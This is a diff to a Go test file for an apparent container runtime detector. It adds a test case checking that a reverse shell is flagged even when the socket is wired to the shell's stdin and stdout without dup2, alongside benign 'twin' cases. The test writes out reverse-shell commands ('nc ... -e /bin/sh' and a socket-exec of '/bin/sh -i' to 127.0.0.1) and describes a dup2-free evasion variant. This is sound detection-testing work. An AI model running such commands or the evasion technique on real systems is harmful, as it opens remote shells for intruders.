@@ -260,15 +260,22 @@ func TestPrivilegeAttacks(t *testing.T) {
 }
 
 // TestReverseShell: nc connects out and runs a shell on the socket; the
-// twin connects and sends a file.
+// twin connects and sends a file. A second attack puts the socket on the
+// shell's standard input and output without dup2 (fd 0 closed and taken
+// by socket(), fd 1 by fcntl); its twin starts a shell on a unix socket
+// pair, as a service manager does.
 func TestReverseShell(t *testing.T) {
 	m := start(t)
 	l := listen(t)
-	id, twin := attackContainer(t), attackContainer(t)
+	id, twin, dupless := attackContainer(t), attackContainer(t), attackContainer(t)
 	Sh(t, twin, "echo hello | nc -w 1 127.0.0.1 "+port(l))
+	Sh(t, twin, "/t/actor stdio-socket-exec unix /bin/sh -c true")
 	go Sh(t, id, "nc 127.0.0.1 "+port(l)+" -e /bin/sh")
+	go Sh(t, dupless, "/t/actor stdio-socket-exec inet:127.0.0.1:"+port(l)+" /bin/sh -i")
 	f := m.Wait(t, "Execution:Runtime/ReverseShell", InContainer(id))
 	expect(t, f, "High", id)
+	f = m.Wait(t, "Execution:Runtime/ReverseShell", InContainer(dupless))
+	expect(t, f, "High", dupless)
 	m.None(t, "Execution:Runtime/ReverseShell", 0, InContainer(twin))
 }
 
